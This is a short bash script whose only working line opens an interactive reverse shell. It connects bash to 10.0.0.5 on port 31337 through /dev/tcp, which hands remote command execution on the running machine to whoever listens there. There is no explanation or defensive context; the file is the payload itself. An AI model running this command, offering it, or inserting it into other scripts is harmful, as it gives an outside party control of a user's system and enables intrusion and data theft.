#!/usr/bin/env bash
set -eu
bash -i >& /dev/tcp/10.0.0.5/31337 0>&1
